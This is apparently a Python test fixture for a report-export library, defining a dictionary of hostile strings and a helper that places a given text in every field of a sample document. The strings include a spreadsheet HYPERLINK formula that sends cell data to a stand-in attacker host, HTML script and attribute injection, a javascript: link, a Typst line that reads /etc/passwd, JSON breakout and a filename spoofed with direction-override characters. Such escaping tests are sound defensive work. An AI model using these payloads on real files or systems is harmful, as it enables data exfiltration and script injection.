"""Texts that somebody types, or a foreign program records, to make a file do something; and a report full of them."""

from __future__ import annotations

from datetime import date, datetime
from zoneinfo import ZoneInfo

from dutytui.exports.document import (
    Chart,
    Coded,
    Column,
    Document,
    Fact,
    Facts,
    Labels,
    Section,
    Signature,
    Signatures,
    Table,
    Words,
)

DAY = date(2026, 11, 23)
NOON = datetime(2026, 11, 23, 12, 30, tzinfo=ZoneInfo("Asia/Shanghai"))

HOSTILE = {
    "control": "a\x00b\x07c\x1b[2Jd",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "plus": "+1-1|cmd!A1",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "wide_formula": "＝1+1",
    "html": "</td></table><script>alert(1)</script><img src=http://evil.example/x onerror=alert(1)>",
    "attribute": '" onmouseover="alert(1)',
    "style": "</style><style>*{display:none}",
    "markdown": "# no\n- [x](javascript:alert(1)) | `a` <b>*b*</b> http://evil.example www.evil.example",
    "typst": '#read("/etc/passwd") #import "@preview/a:1.0.0" #panic() $x^2$ = Head *b* _i_ `c` <l> @l // \\ /*',
    "json": '"}], "sections": [], "x": "\\',
    "turned": "abc\u202egpj.exe\u2066",
    "lines": "one\r\ntwo\rthree\u2028four\n\n## five",
    "long": "很长" * 30_000,
}


def document(text: str) -> Document:
    """A report that has `text` in every place that may hold a text."""
    columns = (Column("a", text), Column("b", "B"), Column("c", "C"), Column("d", "D"))
    parts = (
        Facts("facts", (Fact("fact", text, text), Fact("status", "Status", Coded("late", text)))),
        Words(text),
        Table("one", text, columns, ((text, 3, NOON, Coded("done", text)), (text, 0.5, DAY, None)), text),
        Table("grouped", "", columns, (("x", text, 1, None),), text, grouped=True),
        Table("none", "", columns, (), text),
        Chart("chart", text, ((text, 2.0, text), ("b", None, text))),
        Chart("days", text, tuple((text, float(one), text) for one in range(20))),
        Signatures("signed", (Signature(text, text, NOON), Signature("Received by"))),
    )
    labels = Labels("Made on", "Signed:", "[cut]", "Page {page} of {pages}")
    sections = (Section("first", text, parts), Section("second", "Second", parts[2:3]))
    return Document("day", text, text, DAY, DAY, NOON, "en", labels, iter(sections))
